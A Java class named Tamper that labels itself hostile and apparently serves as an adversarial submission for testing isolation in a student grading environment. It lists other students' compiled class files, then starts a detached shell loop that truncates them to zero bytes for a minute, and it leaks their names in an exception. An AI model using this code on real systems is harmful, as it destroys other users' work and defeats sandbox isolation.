package threadlab.threads;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

/** Hostile: reads and breaks the other submissions' compiled classes. */
final class Tamper {

    private static boolean done;

    private Tamper() {
    }

    static synchronized void go() {
        if (done) {
            return;
        }
        done = true;
        Path own = null;
        for (String entry : System.getProperty("java.class.path").split(":")) {
            if (Files.isDirectory(Path.of(entry, "threadlab", "threads"))) {
                own = Path.of(entry).toAbsolutePath();
            }
        }
        if (own == null || own.getNameCount() < 3) {
            return;
        }
        Path mine = own.getParent().getParent();
        Path root = mine.getParent();
        StringBuilder seen = new StringBuilder();
        try (Stream<Path> walk = Files.walk(root, 6)) {
            walk.filter(p -> !p.startsWith(mine) && p.toString().endsWith(".class")
                    && p.toString().contains("/classes/")).limit(20)
                    .forEach(p -> seen.append(p.getFileName()).append(' '));
        } catch (Exception e) {
            // Keep going.
        }
        String script = "end=$(($(date +%s) + 60)); while [ $(date +%s) -lt $end ]; do"
                + " find '" + root + "' -path '" + mine + "' -prune -o -path '*/classes/*'"
                + " -name '*.class' -size +0 -exec truncate -s 0 {} + 2>/dev/null;"
                + " sleep 0.05; done";
        try {
            new ProcessBuilder("setsid", "sh", "-c", script)
                    .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .redirectError(ProcessBuilder.Redirect.DISCARD).start();
        } catch (java.io.IOException e) {
            // Not on Linux.
        }
        if (seen.length() > 0) {
            throw new IllegalStateException("Other students' classes: " + seen);
        }
    }
}
